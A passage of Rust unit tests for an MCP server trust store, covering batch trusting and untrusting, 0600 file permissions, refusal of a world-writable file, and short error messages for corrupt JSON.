    fn many_definitions_are_trusted_in_one_write_and_none_when_all_are() {
        let dir = tempfile::tempdir().unwrap();
        let path = TrustStore::default_path(dir.path());
        let store = TrustStore::open(&path).unwrap();
        let sources: Vec<McpSource> = (0..300)
            .map(|i| source(&format!("s{i}"), &format!("/bin/p{i}")))
            .collect();
        let added = store.trust_all(&sources[..200], "file").unwrap();
        assert_eq!(added.len(), 200);
        let written = std::fs::metadata(&path).unwrap();
        // Half already trusted: only the new half is added, in one write.
        let added = store.trust_all(&sources[100..], "file").unwrap();
        let names: Vec<&str> = added.iter().map(|s| s.server.as_str()).collect();
        assert_eq!(names.len(), 100);
        assert_eq!(names[0], "s200");
        let rewritten = std::fs::metadata(&path).unwrap();
        // All trusted already: the file is not written at all.
        assert!(store.trust_all(&sources, "file").unwrap().is_empty());
        let kept = std::fs::metadata(&path).unwrap();
        {
            use std::os::unix::fs::MetadataExt;
            assert_ne!(written.ino(), rewritten.ino());
            assert_eq!(rewritten.ino(), kept.ino());
        }
        let reopened = TrustStore::open(&path).unwrap();
        assert_eq!(reopened.entries().len(), 300);
        assert!(reopened.is_trusted(&spec_digest(&sources[299])));
        // The index follows an untrust, here and in another process's view.
        let gone = reopened.untrust(|entry| entry.server == "s7").unwrap();
        assert_eq!(gone.len(), 1);
        let digest = spec_digest(&sources[7]);
        assert!(!reopened.is_trusted(&digest));
        assert!(!store.is_trusted(&digest));
        assert!(store.is_trusted(&spec_digest(&sources[8])));
    }

    #[test]
    fn trust_is_written_with_mode_0600_and_read_back() {
        let dir = tempfile::tempdir().unwrap();
        let path = TrustStore::default_path(dir.path());
        let store = TrustStore::open(&path).unwrap();
        let linter = source("linter", "/bin/sh");
        assert!(!store.is_trusted(&spec_digest(&linter)));
        assert!(store.trust(&linter, "test").unwrap());
        assert!(!store.trust(&linter, "test").unwrap());
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
            assert_eq!(mode, 0o600);
        }
        let again = TrustStore::open(&path).unwrap();
        assert!(again.is_trusted(&spec_digest(&linter)));
        assert_eq!(again.entries()[0].launch, "/bin/sh -c 'echo hi'");
        let gone = again.untrust(|e| e.server == "linter").unwrap();
        assert_eq!(gone.len(), 1);
        assert!(!TrustStore::open(&path).unwrap().is_trusted(&gone[0].digest));
    }

    #[cfg(unix)]
    #[test]
    fn a_broken_file_is_a_short_error_however_large() {
        use std::os::unix::fs::PermissionsExt;
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("trust.json");
        let huge = "A".repeat(1 << 20);
        std::fs::write(&path, format!(r#"{{"version":1,"trusted":"{huge}"}}"#)).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o600)).unwrap();
        let err = TrustStore::open(&path).unwrap_err();
        assert_eq!(err.kind(), "trust_store_invalid");
        let shown = err.to_string();
        assert!(shown.len() < 4096, "{}", shown.len());
        assert!(shown.contains("expected a sequence"), "{shown}");
    }

    #[cfg(unix)]
    #[test]
    fn a_file_others_can_write_is_refused() {
        use std::os::unix::fs::PermissionsExt;
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("trust.json");
        std::fs::write(&path, r#"{"version":1,"trusted":[]}"#).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o666)).unwrap();
        let err = TrustStore::open(&path).unwrap_err();
        assert_eq!(err.kind(), "trust_store_permissions");
        assert!(err.to_string().contains("expected 0600"), "{err}");
    }

    #[test]
    fn a_broken_file_is_a_clear_error() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("trust.json");
        use std::io::Write;
        agents_fs::open_options()
            .write(true)
            .create(true)
            .truncate(true)
            .open(&path)
            .unwrap()
            .write_all(b"{not json")
            .unwrap();
        let err = TrustStore::open(&path).unwrap_err();
        assert_eq!(err.kind(), "trust_store_invalid");
        assert!(err.to_string().contains("line 1"), "{err}");
    }
}
